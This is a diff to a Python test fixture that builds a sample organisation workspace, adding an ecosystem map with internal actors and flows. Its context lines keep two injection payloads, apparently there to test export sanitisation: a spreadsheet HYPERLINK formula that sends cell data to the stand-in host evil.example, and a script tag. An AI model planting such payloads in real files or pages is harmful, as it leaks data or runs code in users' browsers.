@@ -1,13 +1,15 @@
 """A realistic organisation workspace for the tests of its workbook and report: two versions of its ranking
 (one adopted from a co-ranking session among departments), an internal worksheet with internal and
-shareable fields (the internal ones carry the unique strings ``INTERNAL_*``), and two relationship sessions
-linked to it, revealed, with next steps (one overdue, one done, one with a named owner)."""
+shareable fields (the internal ones carry the unique strings ``INTERNAL_*``), two relationship sessions
+linked to it, revealed, with next steps (one overdue, one done, one with a named owner), and an ecosystem map
+(Activity 4) with an internal actor, an internal flow, and a shareable flow to the internal actor (which the
+shareable map drops too)."""
 
 from __future__ import annotations
 
 from dataclasses import dataclass
 
-from trustcore import internal_worksheet
+from trustcore import ecosystem, internal_worksheet
 from trustcore import workspace as ws
 from trustcore.followup.next_steps import add_next_step
 
@@ -17,6 +19,10 @@ SHARED_B = "We publish our data protection impact assessments"
 SHARED_C = "Audit reports on our website"
 FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click me")'
 SCRIPT = "<script>alert('owned')</script>"
+INTERNAL_ACTOR = "INTERNAL-ONLY-ACTOR-77c0"
+INTERNAL_FLOW = "INTERNAL-ONLY-FLOW-5d3b"
+TO_INTERNAL = "FLOW-TO-AN-INTERNAL-ACTOR-1e8f"  # a shareable flow's label, to the internal actor
+SHARED_FLOW = "timetables"
 OWNER = "Ulrich Bramblewood"  # a next step's owner: nobody's name is in either copy
 
 
@@ -74,4 +80,10 @@ def sample(store, name: str = "Acme Data") -> Sample:
     )
     add_next_step(bus_view, "privacy", "Old step", due="2020-01-01", status="done")
     add_next_step(store.open(water.session.code, water.facilitator_token), "privacy", "Share logs", due="Q3 2099")
+    us = ecosystem.add_actor(wview, name, "organisation", role="steward", organisation=True)
+    bus_actor = ecosystem.add_actor(wview, "CityBus", "organisation", role="contributor")
+    hidden = ecosystem.add_actor(wview, INTERNAL_ACTOR, "technology", internal=True)
+    ecosystem.add_flow(wview, bus_actor.id, us.id, "data", label=SHARED_FLOW)
+    ecosystem.add_flow(wview, us.id, bus_actor.id, "money", label=INTERNAL_FLOW, internal=True)
+    ecosystem.add_flow(wview, us.id, hidden.id, "data", label=TO_INTERNAL)
     return Sample(wview, org.token, tuple(codes), tuple(tokens))
